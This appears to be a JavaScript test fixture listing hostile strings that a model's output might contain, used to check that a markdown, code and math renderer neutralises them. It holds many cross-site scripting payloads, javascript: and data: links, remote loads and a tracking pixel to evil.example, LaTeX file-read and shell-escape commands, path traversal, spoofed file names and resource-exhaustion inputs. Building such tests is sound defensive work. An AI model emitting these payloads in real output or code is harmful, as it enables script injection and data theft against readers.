// What a model, or who speaks through it, could write to harm its reader. Scripts would set window.pwned, requests
// would go to evil.example or to /evil-own. Every text is one case: [what it tries, text].
const JS = 'window.pwned=1';
const END = '</' + 'script>';

const raw = [
  ['script', `<script>${JS}${END}`],
  ['script with a source', `<script src=https://evil.example/x.js>${END}`],
  ['script in upper case and pieces', `<ScRiPt\n>${JS}</sCrIpT ><scr<script>ipt>${JS}${END}`],
  ['script as a module', `<script type=module>import('https://evil.example/x.js')${END}`],
  ['image that fails', `<img src=x onerror=${JS}>`],
  ['image without spaces', `<img/src=x/onerror=${JS}//`],
  ['image with quotes', `<img src="x" onerror="${JS}" alt='">'>`],
  ['image that loads', '<img src=https://evil.example/a.png srcset="https://evil.example/b.png 2x">'],
  ['own address as an image', '<img src=/evil-own?logout> ![x](/evil-own?markdown)'],
  ['svg', `<svg onload=${JS}><script>${JS}${END}</svg>`],
  ['svg animation', `<svg><animate onbegin=${JS} attributeName=x dur=1s><set attributeName=href to=javascript:${JS}>`],
  ['svg use', '<svg><use href="https://evil.example/x.svg#a"/><image href="https://evil.example/x.png"/></svg>'],
  [
    'svg foreign object',
    `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1${END}"></iframe></foreignObject></svg>`
  ],
  ['mathml link', `<math href="javascript:${JS}"><mtext>click</mtext></math>`],
  [
    'mathml mutation',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`
  ],
  ['noscript mutation', `<noscript><p title="</noscript><img src=x onerror=${JS}>">`],
  ['style mutation', `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`],
  ['form mutation', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`],
  ['template', `<template><img src=x onerror=${JS}></template><slot onslotchange=${JS}>`],
  ['comment', `<!-- --!><img src=x onerror=${JS}> --> <!--[if IE]><script>${JS}${END}<![endif]-->`],
  ['CDATA and instructions', `<![CDATA[<script>${JS}${END}]]> <?xml-stylesheet href="https://evil.example/x.css"?>`],
  ['iframe', `<iframe src=https://evil.example></iframe><iframe srcdoc="<script>parent.pwned=1${END}">`],
  ['object, embed, applet', '<object data=https://evil.example/x><embed src=https://evil.example/y><applet code=x>'],
  [
    'media',
    `<video src=https://evil.example/v onerror=${JS}><audio src=x onerror=${JS}><source src=https://evil.example/s>`
  ],
  ['meta and base', '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/>'],
  ['link', '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>'],
  [
    'style sheet',
    '<style>@import "https://evil.example/x.css";input[value^=a]{background:url(https://evil.example/a)}</style>'
  ],
  [
    'style attribute',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">over everything</div>'
  ],
  ['font face', '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}*{font-family:x}</style>'],
  [
    'form',
    `<form action=https://evil.example><input autofocus onfocus=${JS}><button formaction=javascript:${JS}>go</button></form>`
  ],
  ['details', `<details open ontoggle=${JS}><summary>x</summary></details>`],
  ['marquee and body', `<marquee onstart=${JS}>x</marquee><body onload=${JS} onpageshow=${JS}>`],
  ['names of the page', '<a id=location name=cookie><form id=document><img name=querySelector>'],
  ['entities', `&lt;script&gt;${JS}&lt;/script&gt; &#60;img src=x onerror=${JS}&#62; &#x3C;svg/onload=${JS}&#x3E;`],
  ['entities without their ends', '&#0000060script&#62 &lt &#x26;#x3c; &amp;amp;lt; &NewLine;&Tab;&colon;'],
  ['NULs', `\u0000<scr\u0000ipt>${JS}${END}\u0000 <img\u0000 src=x onerror=${JS}>`],
  ['text that ends in a tag', '<a href="https://evil.example/'],
  ['custom element', `<x-y onclick=${JS} style=display:block>x</x-y><portal src=https://evil.example>`]
];

const links = [
  ['javascript:', `[a](javascript:${JS}) [b](JaVaScRiPt:${JS}) <javascript:${JS}>`],
  ['javascript: with blanks', `[a]( javascript:${JS}) [b](<java\tscript:${JS}>) [c](java\nscript:${JS})`],
  ['javascript: in entities', `[a](&#106;avascript:${JS}) [b](javascript&colon;${JS}) [c](&#x6A&#x61;vascript:${JS})`],
  ['javascript: escaped', `[a](\\javascript:${JS}) [b](javascript\\:${JS}) [c](%6Aavascript:${JS})`],
  [
    'javascript: behind control characters',
    `[a](\u0001javascript:${JS}) [b](\u200bjavascript:${JS}) [c](java\u00adscript:${JS})`
  ],
  ['javascript: with //', `[a](javascript://evil.example/%0a${JS}) [b](javascript:/*https://*/${JS})`],
  [
    'vbscript:, data:, blob:, file:',
    `[a](vbscript:x) [b](data:text/html,<script>${JS}${END}) [c](blob:x) [d](file:///etc/passwd)`
  ],
  [
    'data: as an image',
    '![a](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PjE8L3NjcmlwdD48L3N2Zz4=) ![b](data:text/html,x)'
  ],
  [
    'odd schemes',
    '[a](intent://x) [b](ms-msdt:/id) [c](view-source:x) [d](tel:1) [e](about:blank) [f](ftp://evil.example)'
  ],
  ['references', `[x]: javascript:${JS}\n\n[x] [y][x] ![z][x]`],
  ['quotes in an address', `[x](https://evil.example/"onmouseover="${JS}) ![x](https://evil.example/" onerror="${JS})`],
  [
    'quotes in a title',
    `[x](https://evil.example 'a" onclick="${JS}') [y](https://evil.example "<img src=x onerror=${JS}>")`
  ],
  [
    'automatic addresses',
    `<https://evil.example/"onmouseover="${JS}> https://evil.example/<script>${JS}${END} www.evil.example/"onx=`
  ],
  [
    'link in a link',
    `[![n](https://evil.example/a.png)](javascript:${JS}) [[a](https://evil.example)](javascript:${JS})`
  ],
  [
    'remote images',
    '![a](https://evil.example/pixel.gif?secret) ![b](//evil.example/x.png "t") ![c](https:evil.example/x)'
  ],
  ['two hosts', '[a](//evil.example) [b](/\\evil.example) [c](\\\\evil.example) [d](https:/evil.example)'],
  [
    'lookalike address',
    '[https://bank.example](https://evil.example) [x](https://bank.example@evil.example) https://xn--80ak6aa92e.com'
  ],
  ['footnotes', `[^<img src=x onerror=${JS}>]: <script>${JS}${END}\n\na[^"onclick=${JS}]`]
];

const code = [
  ['fence with a tag for its language', `\`\`\`"><img src=x onerror=${JS}>\n<script>${JS}${END}\n\`\`\``],
  ['highlighted HTML', `\`\`\`html\n<script src=//evil.example>${END}<img src=x onerror=${JS}>\n\`\`\``],
  ['code in a list', `- a\n\n  \`\`\`js" onclick="${JS}\n  </code></pre><script>${JS}${END}\n  \`\`\``],
  ['inline code', `\`<img src=x onerror=${JS}>\` \`\`</code><script>${JS}${END}\`\``],
  ['language names of the page', '```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\ny\n```'],
  ['table', `| <img src=x onerror=${JS}> | b" onclick="x |\n|---|---|\n| [x](javascript:${JS}) | \`</td><script>\` |`],
  ['heading and quote', `# <img src=x onerror=${JS}>\n\n> <script>${JS}${END}\n\n1. <b onmouseover=${JS}>x</b>`],
  ['task list', `- [x] <input onfocus=${JS} autofocus>\n- [ ] <img src=x onerror=${JS}>`],
  ['ANSI', '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J'],
  ['direction controls', 'user\u202egpj.exe \u2066\u2067\u2068 \u202d\u202e\u202a\u202b nothing closed'],
  [
    'invisible characters',
    'a\u200b\u200c\u200d\u2060\ufeffb \u00ad\u034f\u061c\u180e \u{E0041}\u{E0042} \ufff9x\ufffay\ufffb'
  ],
  ['lone surrogates and noncharacters', 'a\ufffdb \uffff \ufffe \u{1FFFF} end'],
  ['towers of marks', `Z${'\u0301\u0327\u0489'.repeat(150)}algo`]
];

const math = [
  ['\\href', `$\\href{javascript:${JS}}{x}$ $\\url{javascript:${JS}}$`],
  ['\\includegraphics', '$\\includegraphics{https://evil.example/x.png}$ $\\includegraphics[height=1em]{/evil-own}$'],
  [
    '\\html...',
    `$\\htmlData{onclick=${JS}}{x}$ $\\htmlStyle{background:url(https://evil.example)}{y}$ $\\htmlId{a}{z}$ $\\htmlClass{fixed}{w}$`
  ],
  ['tags in \\text', `$\\text{<img src=x onerror=${JS}>}$ \\(<script>${JS}${END}\\)`],
  [
    'colours and rules',
    '$\\color{url(https://evil.example)}{x}$ $\\rule{9999em}{9999em}$ $\\kern9999em x$ $\\raisebox{-9999em}{y}$'
  ],
  ['macros without end', '$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y}\\y$ $\\let\\a=\\b\\let\\b=\\a\\a$'],
  [
    'macros that double',
    `$${Array.from({ length: 20 }, (_, n) => `\\def\\${'abcdefghijklmnopqrstu'[n]}{\\${'abcdefghijklmnopqrstu'[n + 1]}\\${'abcdefghijklmnopqrstu'[n + 1]}}`).join('')}\\a$`
  ],
  [
    'sizes',
    `$${'\\Huge'.repeat(60)}x$ $${'{'.repeat(300)}x${'}'.repeat(300)}$ $${'\\frac{1}{'.repeat(80)}x${'}'.repeat(80)}$`
  ],
  ['formulas that do not end', '$$\nx^2 \\begin{matrix} a & b \\\\\n\n\\[ never \\( closed $ and $'],
  ['braces without end', `$${'{'.repeat(900)}$ $${'\\sqrt{'.repeat(120)}x${'}'.repeat(120)}$`],
  ['catcodes and files', '$\\catcode`\\%=12 \\input{/etc/passwd} \\write18{id} \\openin1=x$']
];

/**
 * Long ones: [what, text]; each is an answer of its own.
 * @type {[string, string][]}
 */
export const LARGE = [
  ['10,000 quotes', '>'.repeat(10_000) + ' deep'],
  ['10,000 quotes with blanks', '> '.repeat(10_000) + 'deep'],
  ['10,000 lists', '- '.repeat(10_000) + 'deep'],
  ['lists by indentation', Array.from({ length: 200 }, (_, n) => `${'  '.repeat(n)}- level ${n}`).join('\n')],
  ['quotes and lists', '> 1. - '.repeat(3000) + 'deep'],
  ['lazy quotes', `${'>'.repeat(40)} a\nlazy\n`.repeat(100)],
  ['brackets', '['.repeat(8000) + 'a' + ']('.repeat(8000)],
  ['stars', '*a **b _c __d '.repeat(1500)],
  ['ticks', Array.from({ length: 150 }, (_, n) => '`'.repeat(n + 1)).join(' ')],
  ['dollars', '\\( $ $$ \\['.repeat(2500)],
  ['addresses', 'https://evil.example/'.repeat(800) + ' ' + 'a@b.c'.repeat(3000)],
  ['a wide table', `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'b|'.repeat(500)}\n`.repeat(12)}`],
  ['a long table', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(2500)}`],
  ['headings', '# a\n'.repeat(1500)],
  ['definitions', Array.from({ length: 800 }, (_, n) => `[a${n}]: javascript:${JS}\n`).join('') + '\n[a1] [a2]'],
  ['one line', 'x'.repeat(40_000)],
  ['a fence that never closes', '```python\n' + `s = """ ${'\\'.repeat(40)} ${'a'.repeat(40)}\n`.repeat(300)],
  [
    'regular expressions of a highlighter',
    '```js\n' + '/'.repeat(500) + '<'.repeat(3000) + '(('.repeat(1500) + '\n' + '`${'.repeat(1000) + '\n```'
  ],
  ['blanks', 'a' + ' '.repeat(20_000) + '\n' + '\t'.repeat(5000) + 'b' + '\n'.repeat(5000) + 'c']
];

/**
 * Short ones, that follow each other in one answer: [what, text].
 * @type {[string, string][]}
 */
export const SMALL = /** @type {[string, string][]} */ ([...raw, ...links, ...code, ...math]);

/** For titles, files and folders. */
export const NAMES = [
  `<img src=x onerror=${JS}>`,
  `"><script>${JS}${END}`,
  `javascript:${JS}`,
  `' onmouseover='${JS}`,
  'a\u202egpj.exe',
  '{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} {@html x}',
  `<svg/onload=${JS}>.txt`,
  '..\\..\\etc/passwd'
];

/** @param {number} n */
export const endOf = (n) => `end of case ${n} here`;

/**
 * Several cases as one text; `first` numbers them.
 * @param {[string, string][]} cases
 * @param {number} first
 */
export const together = (cases, first) => cases.map(([, text], i) => `${text}\n\n${endOf(first + i)}\n`).join('\n');
